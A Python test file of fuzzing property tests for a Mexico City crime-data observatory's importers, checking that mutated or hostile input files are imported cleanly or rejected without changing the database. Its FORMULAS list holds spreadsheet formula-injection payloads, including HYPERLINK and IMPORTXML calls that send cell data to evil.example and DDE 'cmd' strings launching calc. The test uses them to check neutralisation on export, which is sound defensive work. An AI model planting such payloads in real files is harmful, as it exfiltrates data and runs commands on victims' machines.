"""Hostile and broken input for every importer (hypothesis property tests).

Each importer gets mutated versions of a real file (the first rows of Mexico City's SSP
incident export, real alcaldía boundaries) or of the project's example files: random bytes,
truncated lines, dropped or repeated lines, huge fields, spreadsheet formulas in text,
binary files renamed ``.csv``, other encodings. Every run must end in a clean import (a
balanced report and a finished batch) or a clear rejection (``InputFileError`` /
``ImportFailed`` with a message naming the file), never another exception; after a
rejection the database is exactly as before. Fixed seed (``derandomize``) and 25 examples
per importer keep the run short and reproducible in CI.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select, text

from observatory.db.models import ImportBatch
from observatory.db.session import get_engine
from observatory.ingest.boundaries import import_boundaries
from observatory.ingest.incidents import ingest_incidents
from observatory.ingest.readers import InputFileError
from observatory.ingest.report import ImportFailed
from observatory.ingest.surveys import ingest_survey
from observatory.privacy import neutralise_frame
from tests.conftest import EXAMPLES, make_database, realdata

CLEAR_REJECTIONS = (InputFileError, ImportFailed)
FUZZ = settings(max_examples=25, derandomize=True, deadline=None, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
TABLES = ("import_batches", "rejected_rows", "incidents", "incident_areas", "incident_revisions",
          "boundary_layers", "neighbourhoods", "survey_waves", "survey_responses", "category_aliases",
          "audit_events")
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")')

GENERIC_INCIDENTS = (
    "record_id,occurred_date,occurred_time,occurred_end_date,occurred_end_time,reported_date,category,latitude,"
    "longitude,neighbourhood_code,neighbourhood_name,victim_sex,victim_age,count,address,description\n"
    "G1,2024-03-01,21:15,,,2024-03-02,robbery_person,19.3900,-99.1500,9014,Benito Juárez,F,34,1,"
    "\"Av. Insurgentes 100\",\"robo con arma, \"\"celular\"\"\"\n"
    "G2,02/03/2024,08:00,,,,homicide,19.4300,-99.1400,,CUAUHTEMOC,M,51,1,Calle 5,sin datos\n"
    "G3,2024-03-03,,,,,burglary_residential,,,9010,Álvaro Obregón,,,2,,\n"
    "G4,2024-03-04,23:59,2024-03-05,01:00,2024-03-05,rape,19.3600,-99.1200,,,F,17,1,restricted,restricted\n"
)


def snapshot(engine) -> dict[str, int]:
    """Row counts of every table an import writes (the database "state" for these tests)."""
    with engine.connect() as conn:
        return {t: conn.execute(text(f"SELECT COUNT(*) FROM {t}")).scalar_one() for t in TABLES}


@pytest.fixture(scope="module")
def fuzz_db(tmp_path_factory):
    """One migrated SQLite database with the real CDMX alcaldías as primary layer."""
    url, cleanup = make_database("sqlite", tmp_path_factory.mktemp("fuzzdb"))
    engine = get_engine(url)
    import_boundaries(realdata("cdmx", "alcaldias.geojson"), layer="alcaldias", id_field="cvegeo",
                      name_field="municipio", engine=engine)
    yield engine
    cleanup()


@pytest.fixture(scope="module")
def ssp_head() -> bytes:
    """Header and first 60 rows of the real SSP incident export (quoted CSV, NA coordinates...)."""
    with open(realdata("cdmx", "ssp_cdmx_crime_lat_long_2013_2016.csv"), "rb") as fh:
        return b"".join(fh.readline() for _ in range(61))


@pytest.fixture(scope="module")
def alcaldias_small() -> bytes:
    """Three real alcaldía polygons as GeoJSON."""
    data = json.loads(realdata("cdmx", "alcaldias.geojson").read_text(encoding="utf-8"))
    data["features"] = data["features"][:3]
    return json.dumps(data).encode()


# --- mutations --------------------------------------------------------------------------------------


def _flip_bytes(draw, data: bytes, lines: list[bytes], text_like: bool) -> bytes:
    if not data:
        return data
    buf = bytearray(data)
    for _ in range(draw(st.integers(1, 20))):
        buf[draw(st.integers(0, len(buf) - 1))] = draw(st.integers(0, 255))
    return bytes(buf)


def _truncate(draw, data: bytes, lines: list[bytes], text_like: bool) -> bytes:
    return data[: draw(st.integers(0, len(data) - 1))] if data else data


def _drop_line(draw, data: bytes, lines: list[bytes], text_like: bool) -> bytes:
    if len(lines) <= 1:
        return data
    del lines[draw(st.integers(0, len(lines) - 1))]
    return b"\n".join(lines)


def _dup_line(draw, data: bytes, lines: list[bytes], text_like: bool) -> bytes:
    if len(lines) <= 1:
        return data
    i = draw(st.integers(0, len(lines) - 1))
    lines.insert(i, lines[i])
    return b"\n".join(lines)


def _cell_piece(op: str):
    def apply(draw, data: bytes, lines: list[bytes], text_like: bool) -> bytes:
        """A huge cell or a spreadsheet formula in one cell of one line."""
        if len(lines) <= 1:
            return data
        i = draw(st.integers(1 if text_like else 0, len(lines) - 1))
        piece = (b"A" * draw(st.sampled_from([70_000, 1_200_000])) if op == "huge"
                 else draw(st.sampled_from(FORMULAS)).encode())
        if not text_like:
            piece = json.dumps(piece.decode()).encode()[1:-1]  # keep JSON strings valid
        cells = lines[i].split(b",")
        j = draw(st.integers(0, len(cells) - 1))
        cells[j] = b'"' + piece.replace(b'"', b'""') + b'"' if text_like else cells[j] + piece
        lines[i] = b",".join(cells)
        return b"\n".join(lines)
    return apply


def _binary(draw, data: bytes, lines: list[bytes], text_like: bool) -> bytes:
    return draw(st.sampled_from([b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", b"PK\x03\x04\x14\x00",
                                 b"\x1f\x8b\x08\x00broken", b"%PDF-1.7\n%\xe2\xe3"])) + data[:200]


def _encoding(draw, data: bytes, lines: list[bytes], text_like: bool) -> bytes:
    codec = draw(st.sampled_from(["utf-16", "cp1252", "latin-1"]))
    return data.decode("utf-8", errors="replace").encode(codec, errors="replace")


MUTATIONS = {
    "bytes": _flip_bytes, "truncate": _truncate, "drop_line": _drop_line, "dup_line": _dup_line,
    "huge": _cell_piece("huge"), "formula": _cell_piece("formula"), "binary": _binary, "encoding": _encoding,
    "delims": lambda draw, data, lines, text_like: data.replace(
        b",", draw(st.sampled_from([b";", b"\t", b",,", b'",']))),
    "empty": lambda draw, data, lines, text_like: b"",
    "header_only": lambda draw, data, lines, text_like: lines[0] + b"\n",
    "crlf": lambda draw, data, lines, text_like: data.replace(b"\n", b"\r"),
}


@st.composite
def mutated(draw, seed: bytes, text_like: bool = True) -> bytes:
    """``seed`` with one to three mutations applied."""
    data = seed
    for _ in range(draw(st.integers(1, 3))):
        op = draw(st.sampled_from(list(MUTATIONS)))
        data = MUTATIONS[op](draw, data, data.split(b"\n"), text_like)
    return data


def run_import(engine, importer, path: Path) -> None:
    """Run ``importer(path)``; assert a clean import or a clear rejection that left the DB unchanged."""
    before = snapshot(engine)
    try:
        report = importer(path)
    except CLEAR_REJECTIONS as exc:
        assert path.name in str(exc) or str(path) in str(exc), f"the message must name the file: {exc}"
        assert snapshot(engine) == before, "a rejected file changed the database"
        return
    assert report.balanced, report.summary()
    with engine.connect() as conn:
        status = conn.execute(select(ImportBatch.status).where(ImportBatch.id == report.batch_id)).scalar_one()
        running = conn.execute(select(func.count()).select_from(ImportBatch)
                               .where(ImportBatch.status != "done")).scalar_one()
    assert status == "done" and running == 0
    after = snapshot(engine)
    assert after["import_batches"] == before["import_batches"] + 1


# --- the properties ---------------------------------------------------------------------------------


@FUZZ
@given(data=st.data())
def test_incident_importer_survives_mutations(fuzz_db, ssp_head, tmp_path_factory, data):
    seed_name = data.draw(st.sampled_from(["ssp", "generic"]))
    seed = ssp_head if seed_name == "ssp" else GENERIC_INCIDENTS.encode()
    blob = data.draw(mutated(seed))
    path = tmp_path_factory.mktemp("inc") / "incidents.csv"
    path.write_bytes(blob)
    profile = "cdmx_ssp" if seed_name == "ssp" else "generic_incidents"
    run_import(fuzz_db, lambda p: ingest_incidents(p, source_kind="police", profile=profile, engine=fuzz_db), path)


@FUZZ
@given(data=st.data())
def test_survey_importer_survives_mutations(fuzz_db, tmp_path_factory, data):
    seed = (EXAMPLES / "generic_survey.csv").read_bytes()
    lines = seed.split(b"\n")
    blob = data.draw(mutated(b"\n".join(lines[:40]) + b"\n"))
    path = tmp_path_factory.mktemp("srv") / "survey.csv"
    path.write_bytes(blob)
    run_import(fuzz_db, lambda p: ingest_survey(p, profile="generic_survey", engine=fuzz_db), path)


@FUZZ
@given(data=st.data())
def test_boundary_importer_survives_mutations(fuzz_db, alcaldias_small, tmp_path_factory, data):
    blob = data.draw(mutated(alcaldias_small, text_like=False))
    path = tmp_path_factory.mktemp("bnd") / "areas.geojson"
    if data.draw(st.booleans()):
        path = path.with_suffix(".gpkg")  # a GeoJSON or garbage under a GeoPackage name
    path.write_bytes(blob)
    run_import(fuzz_db, lambda p: import_boundaries(p, layer="fuzz_areas", id_field="cvegeo", name_field="municipio",
                                                    level="other", engine=fuzz_db), path)


# --- formula injection: stored verbatim, neutralised on export --------------------------------------


def test_formulas_in_text_are_stored_verbatim_and_neutralised_on_export(fuzz_db, tmp_path):
    from observatory import queries

    rows = [GENERIC_INCIDENTS.splitlines()[0]]
    for i, formula in enumerate(FORMULAS):
        quoted = '"' + formula.replace('"', '""') + '"'
        rows.append(f"F{i},2024-05-0{i + 1},10:00,,,,theft,19.40,-99.15,,,,,1,{quoted},{quoted}")
    path = tmp_path / "formulas.csv"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    report = ingest_incidents(path, source_kind="complaint", profile="generic_incidents", engine=fuzz_db)
    assert report.loaded == len(FORMULAS), report.summary()
    records = queries.incident_records(fuzz_db, queries.Filters(source_kinds=("complaint",)), "analyst")
    stored = set(records["description"].dropna())
    assert set(FORMULAS) <= stored  # nothing altered in the database
    exported = neutralise_frame(records)
    for column in ("description", "address"):
        values = exported[column].dropna()
        assert not values.str.match(r"^\s*[=+\-@]").any()
        assert values.str.startswith("'").sum() >= len(FORMULAS)


def test_binary_file_renamed_csv_is_rejected_for_every_importer(fuzz_db, tmp_path):
    path = tmp_path / "export.csv"
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40)
    before = snapshot(fuzz_db)
    with pytest.raises(CLEAR_REJECTIONS, match=r"export\.csv"):
        ingest_incidents(path, source_kind="police", profile="generic_incidents", engine=fuzz_db)
    with pytest.raises(CLEAR_REJECTIONS, match=r"export\.csv"):
        ingest_survey(path, profile="generic_survey", engine=fuzz_db)
    with pytest.raises(CLEAR_REJECTIONS, match=r"export\.csv"):
        import_boundaries(path, layer="bin", id_field="id", name_field="name", engine=fuzz_db)
    assert snapshot(fuzz_db) == before
